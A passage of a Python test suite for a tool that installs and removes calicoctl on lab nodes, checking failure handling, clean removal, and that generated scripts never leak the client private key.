        result = run_install(lab, "node-b", settings)
    finally:
        assert lab.ssh(node, remount.format("rw")).returncode == 0

    assert result.returncode == 1, result.output
    assert f"could not write the install record {nodes.INSTALL_RECORD} on node-b" in result.stderr
    assert "installed calicoctl" not in result.stdout
    assert not node.path(CALICOCTL).exists()
    assert not node.path(nodes.INSTALL_RECORD).exists()
    assert staged_files(lab, "node-b") == []
    assert sorted(path.name for path in node.path("/etc/calico").iterdir()) == []


def test_install_without_temporary_directory(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    # An install that ignored the failed mktemp would write its download and record to the root directory.
    strays = [Path("/calicoctl"), Path("/record")]
    existing = [path for path in strays if path.exists()]
    before = len(mirror.requests())

    try:
        result = run_install(lab, "node-a", settings, "TMPDIR=/nonexistent")
    finally:
        created = [path for path in strays if path.exists() and path not in existing]
        for path in created:
            path.unlink()

    assert result.returncode == 1, result.output
    assert "mktemp -d failed on node-a (TMPDIR is '/nonexistent')" in result.stderr
    assert created == []
    assert mirror.requests()[before:] == []
    assert not lab.node("node-a").path(CALICOCTL).exists()


# --- Destroy -------------------------------------------------------------------------------------------


def test_destroy_removes_only_install(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    node = lab.node("node-a")
    node.path("/usr/local/bin/helm").write_text("#!/bin/sh\n")
    node.path("/etc/calico/felix.cfg").write_text("# not calicoctl's\n")
    assert run_install(lab, "node-a", settings).returncode == 0

    result = run_remove(lab, "node-a", settings)

    assert result.returncode == 0, result.output
    assert not node.path(CALICOCTL).exists()
    assert not node.path(nodes.CALICOCTL_CONFIG).exists()
    assert not node.path(nodes.INSTALL_RECORD).exists()
    assert node.path("/usr/local/bin/helm").exists()
    assert node.path("/etc/calico/felix.cfg").exists()
    assert node.path(nodes.KUBECONFIG_PATH).exists()


def test_destroy_as_sudo_user(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    assert run_install(lab, "node-b", settings).returncode == 0

    result = run_remove(lab, "node-b", settings)

    assert result.returncode == 0, result.output
    assert not lab.node("node-b").path(CALICOCTL).exists()
    assert not lab.node("node-b").path(nodes.INSTALL_RECORD).exists()


def test_destroy_leaves_changed_binary(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    assert run_install(lab, "node-a", settings).returncode == 0
    lab.node("node-a").path(CALICOCTL).write_bytes(fake_calicoctl("v3.99.0"))

    result = run_remove(lab, "node-a", settings)

    assert result.returncode == 0, result.output
    assert "changed after the install" in result.stdout
    assert lab.node("node-a").path(CALICOCTL).read_bytes() == fake_calicoctl("v3.99.0")


def test_destroy_without_install_changes_nothing(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    lab.node("node-a").path(CALICOCTL).write_bytes(fake_calicoctl("v3.31.7"))

    result = run_remove(lab, "node-a", settings)

    assert result.returncode == 0, result.output
    assert lab.node("node-a").path(CALICOCTL).exists()


# --- Secrets -------------------------------------------------------------------------------------------


def test_no_private_key_in_scripts(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    key_body = "".join(lab.client_key.read_text().splitlines()[1:-1])
    node = settings_node(settings, "node-a")
    texts = [
        nodes.preflight_script(settings, node),
        nodes.install_script(settings, node, ARCH),
        nodes.remove_command(settings, node, ARCH),
    ]

    outputs = [run_preflight(lab, "node-a", settings).output, run_install(lab, "node-a", settings).output]

    for text in texts + outputs:
        assert "PRIVATE KEY" not in text
        assert key_body[:40] not in text


# --- Coverage of the recorded node cases ---------------------------------------------------------------

# Each recorded case about nodes, by id, and the test above that runs it.
CASE_TESTS = {
    "armv7-node": test_preflight_armv7_fails,
    "sudo-needs-password": test_preflight_sudo_password_fails_fast,
    "node-mtu-smaller-than-config": test_preflight_node_mtu_smaller_than_config,
    "vxlan-module-missing": test_preflight_vxlan_module_missing,
    "second-up-changes-nothing": test_install_two_nodes_then_rerun,
}


def test_every_node_case_has_test() -> None:
    if not SHARED.is_dir():
        pytest.skip(SHARED_MISSING_REASON)
    cases = [case["id"] for case in load_shared_cases() if case.get("kind") == "node"]
    cases.append("second-up-changes-nothing")

    assert cases[:-1], "the case list names no node case"
    assert sorted(set(cases) - set(CASE_TESTS)) == []
